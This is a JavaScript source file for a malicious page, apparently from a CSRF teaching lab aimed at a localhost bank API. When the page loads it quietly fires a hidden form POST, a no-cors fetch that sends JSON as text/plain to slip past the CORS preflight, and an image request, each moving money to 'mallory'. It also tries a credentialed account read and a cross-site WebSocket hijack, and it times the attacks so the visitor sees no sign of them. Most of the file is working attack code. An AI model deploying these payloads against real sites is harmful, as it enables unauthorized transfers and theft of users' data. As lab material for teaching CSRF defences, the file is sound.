"use strict";

const query = new URLSearchParams(location.search);
const api = query.get("api") ?? "http://api.bank.localhost:8080";
const live = query.get("live") ?? `${api.replace("http", "ws")}/live`;
document.querySelector("#prize").action = `${api}/transfer`;

const attacks = [
  ["form", "A form, into a hidden frame", async () => {
    const form = document.querySelector("#hidden");
    form.action = `${api}/transfer`;
    form.submit();
    return "sent";
  }],
  // No preflight: to the browser this is what a form could send.
  ["fetch", "JSON that calls itself text", async () => {
    const body = JSON.stringify({ to: "mallory", amount: 100 });
    const headers = { "Content-Type": "text/plain" };
    await fetch(`${api}/transfer`, { method: "POST", mode: "no-cors", credentials: "include", headers, body });
    return "sent";
  }],
  ["image", "An image that is none", () => new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = () => resolve("sent");
    image.src = `${api}/transfer?to=mallory&amount=100`;
  })],
  // The server answers all the same: CORS only keeps its answer from the page.
  ["read", "The account, by fetch", async () => {
    const response = await fetch(`${api}/account`, { credentials: "include" }).catch(() => null);
    return response ? `read: ${await response.text()}` : "no answer for this page";
  }],
  // CORS has no say here: the page reads whatever the server sends to its user.
  ["socket", "A WebSocket", () => new Promise((resolve) => {
    const socket = new WebSocket(live);
    socket.onmessage = ({ data }) => { resolve(`read: ${data}`); socket.close(); };
    socket.onerror = () => resolve("refused");
  })],
];

const attack = async () => {
  for (const [id, what, make] of attacks) {
    const item = document.createElement("li");
    item.innerHTML = `<span class="what"></span> <span class="saw" role="status">…</span>`;
    item.id = id;
    item.querySelector(".what").textContent = what;
    document.querySelector("#calls").append(item);
    item.querySelector(".saw").textContent = await make().catch(String);
  }
  document.body.dataset.state = "done";
};

// When all has loaded, so that no spinner tells the visitor of it.
addEventListener("load", () => setTimeout(attack));
